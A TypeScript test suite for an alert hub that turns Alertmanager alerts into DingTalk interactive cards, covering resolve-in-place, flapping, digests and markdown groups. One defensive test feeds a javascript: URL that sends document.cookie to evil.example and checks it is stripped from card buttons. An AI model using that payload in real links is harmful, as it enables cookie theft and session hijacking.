/**
 * Alert cards (docs/gateways.md "Firing and resolved"): in a group its app robot serves (engineering in the demo
 * org), a firing alert is one interactive card (docs/dingtalk.md §10) and its resolve updates that same card in place
 * (no second message); a refire inside the flap window keeps the card firing with its flap count; a group with a
 * custom robot (ops) keeps markdown and the reply. SQLite and PostgreSQL.
 */

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Emulator } from '../../src/emulator/emulator.js';
import type { CardRecord } from '../../src/emulator/types.js';
import type { RunningHub } from '../../src/hub/hub.js';
import { alertCards, amBody, gatewayConfig, hookApp } from './gateways-support.js';
import { backends, ENG, type HubFixture, OPS, startTestHub, waitFor } from './hub-helpers.js';

const FLAP_MS = 600;

type Post = ReturnType<typeof hookApp>['post'];

/** An alert routed to engineering (not critical: the critical rule goes to ops). */
function webAlert(
  name: string,
  fp: string,
  status: 'firing' | 'resolved',
  times: { startsAt?: string; endsAt?: string } = {},
) {
  return amBody(
    [
      {
        name,
        fp,
        status,
        labels: { severity: 'warning', service: 'web-api', owner: '张三' },
        annotations: { summary: `${name} is slow`, runbook_url: 'https://runbooks.example/web' },
        generatorURL: 'http://prometheus.example/graph',
        ...times,
      },
    ],
    `g-${fp}`,
  );
}

async function send(post: Post, body: unknown): Promise<void> {
  const r = await post('/hooks/am', body);
  if (r.status !== 202) throw new Error(`hook answered ${r.status}: ${await r.text()}`);
}

async function cardWhen(
  hub: RunningHub<Emulator>,
  name: string,
  ok: (p: Record<string, string>) => boolean,
  what: string,
  timeoutMs = 10_000,
): Promise<CardRecord> {
  return waitFor(
    () => {
      const [c, more] = alertCards(hub.emulator!, ENG, name);
      if (more) throw new Error(`two cards for ${name}`);
      return c && ok(c.cardParamMap) ? c : undefined;
    },
    timeoutMs,
    what,
  );
}

/** Messages in engineering about this alert (a card is one message, its updates none). */
const messagesAbout = (emu: Emulator, name: string) =>
  emu.messages(ENG).filter((m) => m.text.includes(name) || JSON.stringify(m.content).includes(name));

for (const backend of backends) {
  describe.skipIf(backend.skip)(`alert cards (${backend.name})`, () => {
    let f: HubFixture;
    let post: Post;
    beforeAll(async () => {
      f = await startTestHub(backend, { config: gatewayConfig({ flapWindowMs: FLAP_MS }) });
      post = hookApp(f.hub).post;
    });
    afterAll(async () => {
      await f?.cleanup();
    });

    it('firing → one card in the app-robot group; resolved → the same card updated, no second message', async () => {
      const { hub } = f;
      const emu = hub.emulator!;
      await send(post, webAlert('CardSlow', 'fp-card', 'firing', { startsAt: '2026-12-05T02:00:00Z' }));
      const card = await cardWhen(hub, 'CardSlow', (p) => p['state'] === 'firing', 'the firing card');
      const p = card.cardParamMap;
      expect(card.spaceType).toBe('IM_GROUP');
      expect(p['status']).toBe('Firing');
      expect(p['content']).toContain('**Severity**: warning');
      expect(p['content']).toContain('CardSlow is slow');
      expect(p['content']).toContain('- service: web-api');
      // App robots cannot @ (docs/dingtalk.md §3.1): the owner is named on the card.
      expect(p['content']).toContain('**Owners**: 张三');
      expect(p['lastAction']).toBe('Firing since 2026-12-05 10:00 (UTC+08:00)');
      expect(JSON.parse(p['buttons']!)).toEqual([
        { id: 'source', text: 'Source', url: 'http://prometheus.example/graph' },
        { id: 'runbook', text: 'Runbook', url: 'https://runbooks.example/web' },
      ]);
      expect(messagesAbout(emu, 'CardSlow')).toHaveLength(1);
      const row = await f.store.db
        .selectFrom('hook_alerts')
        .select(['card_id', 'card_app', 'status'])
        .where('fingerprint', '=', 'fp-card')
        .executeTakeFirstOrThrow();
      expect(row).toEqual({ card_id: card.outTrackId, card_app: 'hub', status: 'firing' });
      // The stored job names the app; its secret stays in the config (delivery/jobs.ts).
      const secret = hub.config.apps['hub']!.appSecret;
      const payloads = await f.store.db.selectFrom('deliveries').select('payload').execute();
      expect(payloads.some((d) => String(d.payload).includes(card.outTrackId))).toBe(true);
      expect(payloads.filter((d) => String(d.payload).includes(secret))).toEqual([]);

      await send(
        post,
        webAlert('CardSlow', 'fp-card', 'resolved', {
          startsAt: '2026-12-05T02:00:00Z',
          endsAt: '2026-12-05T02:12:30Z',
        }),
      );
      const done = await cardWhen(hub, 'CardSlow', (x) => x['state'] === 'resolved', 'the resolved card');
      expect(done.outTrackId).toBe(card.outTrackId);
      expect(done.updates).toBe(1);
      expect(done.cardParamMap['status']).toBe('Resolved');
      expect(done.cardParamMap['lastAction']).toBe('Resolved at 2026-12-05 10:12 (UTC+08:00) after 12m 30s');
      await hub.gateways!.flush();
      expect(messagesAbout(emu, 'CardSlow')).toHaveLength(1);
      expect(emu.messages(ENG).filter((m) => m.text.includes('RESOLVED'))).toEqual([]);
    });

    it('a refire inside the flap window keeps the card firing with the flap count; the final resolve shows it', async () => {
      const { hub } = f;
      const emu = hub.emulator!;
      await send(post, webAlert('CardFlap', 'fp-cflap', 'firing', { startsAt: '2026-12-05T03:00:00Z' }));
      const card = await cardWhen(hub, 'CardFlap', (p) => p['state'] === 'firing', 'the firing card');
      // Resolve, then fire again before the window ends: the resolve is never shown.
      await send(
        post,
        webAlert('CardFlap', 'fp-cflap', 'resolved', {
          startsAt: '2026-12-05T03:00:00Z',
          endsAt: '2026-12-05T03:01:00Z',
        }),
      );
      await send(post, webAlert('CardFlap', 'fp-cflap', 'firing', { startsAt: '2026-12-05T03:02:00Z' }));
      const flapped = await cardWhen(
        hub,
        'CardFlap',
        (p) => p['content']!.includes('flapped 1×'),
        'flap count',
      );
      expect(flapped.outTrackId).toBe(card.outTrackId);
      expect(flapped.cardParamMap['state']).toBe('firing');
      await send(
        post,
        webAlert('CardFlap', 'fp-cflap', 'resolved', {
          startsAt: '2026-12-05T03:02:00Z',
          endsAt: '2026-12-05T03:05:00Z',
        }),
      );
      const done = await cardWhen(
        hub,
        'CardFlap',
        (p) => p['state'] === 'resolved',
        'resolved after the window',
        FLAP_MS * 10,
      );
      expect(done.cardParamMap['content']).toContain('flapped 1×');
      expect(done.cardParamMap['lastAction']).toContain('after 3m');
      expect(done.outTrackId).toBe(card.outTrackId);
      expect(messagesAbout(emu, 'CardFlap')).toHaveLength(1);
    });

    it('a new incident after the resolve went out gets a new card', async () => {
      const { hub } = f;
      await send(post, webAlert('CardAgain', 'fp-again', 'firing'));
      const first = await cardWhen(hub, 'CardAgain', (p) => p['state'] === 'firing', 'first card');
      await send(post, webAlert('CardAgain', 'fp-again', 'resolved'));
      await cardWhen(hub, 'CardAgain', (p) => p['state'] === 'resolved', 'first resolved', FLAP_MS * 10);
      await send(post, webAlert('CardAgain', 'fp-again', 'firing', { startsAt: '2026-12-05T04:00:00Z' }));
      const cards = await waitFor(() => {
        const all = alertCards(hub.emulator!, ENG, 'CardAgain');
        return all.length === 2 ? all : undefined;
      });
      const second = cards.find((c) => c.outTrackId !== first.outTrackId)!;
      expect(second.cardParamMap['state']).toBe('firing');
      expect(cards.find((c) => c.outTrackId === first.outTrackId)!.cardParamMap['state']).toBe('resolved');
    });

    it('attack: links the sender chose that are not web links never reach the card', async () => {
      const { hub } = f;
      const body = amBody(
        [
          {
            name: 'CardEvil',
            fp: 'fp-evil',
            labels: { severity: 'warning', service: 'web-api' },
            annotations: { summary: 'x', runbook_url: 'dingtalk://dingtalkclient/action/sendmsg?x=1' },
            generatorURL: 'javascript:fetch("//evil.example/"+document.cookie)',
          },
        ],
        'g-evil',
      );
      await send(post, body);
      const card = await cardWhen(hub, 'CardEvil', () => true, 'the card');
      expect(JSON.parse(card.cardParamMap['buttons']!)).toEqual([]);
      expect(JSON.stringify(card.cardParamMap)).not.toMatch(/javascript:|dingtalk:|evil\.example/);
    });

    it('a group with a custom robot keeps markdown and the resolved reply (no card)', async () => {
      const { hub } = f;
      const emu = hub.emulator!;
      const ops = (fp: string, status: 'firing' | 'resolved') =>
        amBody([{ name: 'OpsText', fp, status, labels: { severity: 'critical' } }], `g-${fp}`);
      await send(post, ops('fp-ops', 'firing'));
      await waitFor(() => emu.messages(OPS).find((m) => m.text.includes('FIRING: OpsText')));
      await send(post, ops('fp-ops', 'resolved'));
      const reply = await waitFor(
        () => emu.messages(OPS).find((m) => m.text.includes('RESOLVED: OpsText')),
        FLAP_MS * 10,
      );
      expect(reply.text).toMatch(/re: the alert posted at /);
      expect(alertCards(emu, OPS, 'OpsText')).toEqual([]);
      expect(emu.messages(OPS).filter((m) => m.source === 'card')).toEqual([]);
    });
  });

  describe.skipIf(backend.skip)(`alert cards and digests (${backend.name})`, () => {
    it('a digest stays markdown; an alert in it whose firing was a card gets its card resolved too', async () => {
      const g = await startTestHub(backend, { config: gatewayConfig({ flapWindowMs: 0 }) });
      try {
        const { post } = hookApp(g.hub);
        const emu = g.hub.emulator!;
        await send(post, webAlert('DigA', 'fp-da', 'firing'));
        const card = await cardWhen(g.hub, 'DigA', (p) => p['state'] === 'firing', 'the firing card');
        // One notification with three alerts: the round has several items, so one digest.
        const three = amBody(
          ['DigA', 'DigB', 'DigC'].map((name, i) => ({
            name,
            fp: `fp-d${i}`,
            status: i === 0 ? ('resolved' as const) : ('firing' as const),
            labels: { severity: 'warning', service: 'web-api' },
          })),
          'g-dig',
        );
        three.alerts[0]!.fingerprint = 'fp-da';
        await send(post, three);
        const digest = await waitFor(() => emu.messages(ENG).find((m) => m.text.includes('📋 3 alerts')));
        expect(digest.source).not.toBe('card');
        const done = await cardWhen(g.hub, 'DigA', (p) => p['state'] === 'resolved', 'the card resolved');
        expect(done.outTrackId).toBe(card.outTrackId);
        // Firing alerts in a digest get no card: one card (DigA's), one digest.
        expect(alertCards(emu, ENG, 'DigB')).toEqual([]);
        expect(emu.messages(ENG).filter((m) => m.source === 'card')).toHaveLength(1);
      } finally {
        await g.cleanup();
      }
    });
  });
}
